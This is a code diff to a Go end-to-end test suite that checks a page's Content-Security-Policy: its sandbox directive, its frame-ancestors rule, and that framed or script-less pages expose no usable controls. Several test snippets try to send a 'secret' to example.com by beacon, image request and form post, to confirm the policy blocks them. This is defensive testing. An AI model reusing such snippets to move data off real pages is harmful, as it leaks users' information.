@@ -75,6 +75,10 @@ func TestSecurityPolicy(t *testing.T) {
 	if got := directives(answer.Header.Get("Content-Security-Policy"))["frame-ancestors"]; !slices.Equal(got, []string{"'none'"}) {
 		t.Errorf("the header's frame-ancestors is %v", got)
 	}
+	allowed := []string{"allow-scripts", "allow-same-origin", "allow-downloads", "allow-forms"}
+	if got := directives(answer.Header.Get("Content-Security-Policy"))["sandbox"]; !slices.Equal(got, allowed) {
+		t.Errorf("the header's sandbox is %v, want %v", got, allowed)
+	}
 }
 
 // unlessRefused takes it for done that nothing was refused.
@@ -94,11 +98,11 @@ func TestPolicyHolds(t *testing.T) {
 		"ErrInlineStyle": `(() => { document.body.setAttribute("style", "outline-width: 7px");
 			return getComputedStyle(document.body).outlineWidth === "7px" ? "done" : "refused" })()`,
 		"ErrBeacon": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
-			navigator.sendBeacon("https://example.com/", "secret"); ` + unlessRefused + ` })`,
+			try { navigator.sendBeacon("https://example.com/", "secret") } catch { done("refused") } ` + unlessRefused + ` })`,
 		"ErrImage": `new Promise(done => { const i = new Image(); i.onload = () => done("done"); i.onerror = () => done("refused");
 			i.src = "https://example.com/?secret" })`,
 		"ErrForm": `new Promise(done => { document.addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
-			const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); f.submit();
+			const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); try { f.submit() } catch { done("refused") }
 			` + unlessRefused + ` })`,
 	}
 	for name, attempt := range attempts {
@@ -305,6 +309,24 @@ func TestFramed(t *testing.T) {
 	page.Eval(`document.getElementById("f").contentDocument.querySelectorAll("input:enabled, textarea:enabled, button:enabled").length`, &usable)
 	if usable != 0 {
 		t.Errorf("%d controls can be used in a frame", usable)
+	}
+}
+
+// TestClosedForm: where boot.js does not run, nobody can type keys.
+func TestClosedForm(t *testing.T) {
+	page := e2e.Open(t, e2e.World{Before: func(h *e2e.StaticHost) {
+		h.Answer("/frame", func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "text/html")
+			w.Write([]byte(`<!doctype html><link rel="icon" href="data:,"><iframe id="f" sandbox="allow-same-origin allow-forms" src="./"></iframe>`))
+		})
+	}})
+	page.Allow("Blocked script execution")
+	page.Go(page.Host.URL + "frame")
+	page.Wait("the page in the frame", `document.getElementById("f").contentDocument?.querySelector("#paste")`)
+	var usable int
+	page.Eval(`document.getElementById("f").contentDocument.querySelectorAll("input:enabled, textarea:enabled, select:enabled, button:enabled").length`, &usable)
+	if usable != 0 {
+		t.Errorf("%d controls can be used where no script runs", usable)
 	}
 }
 
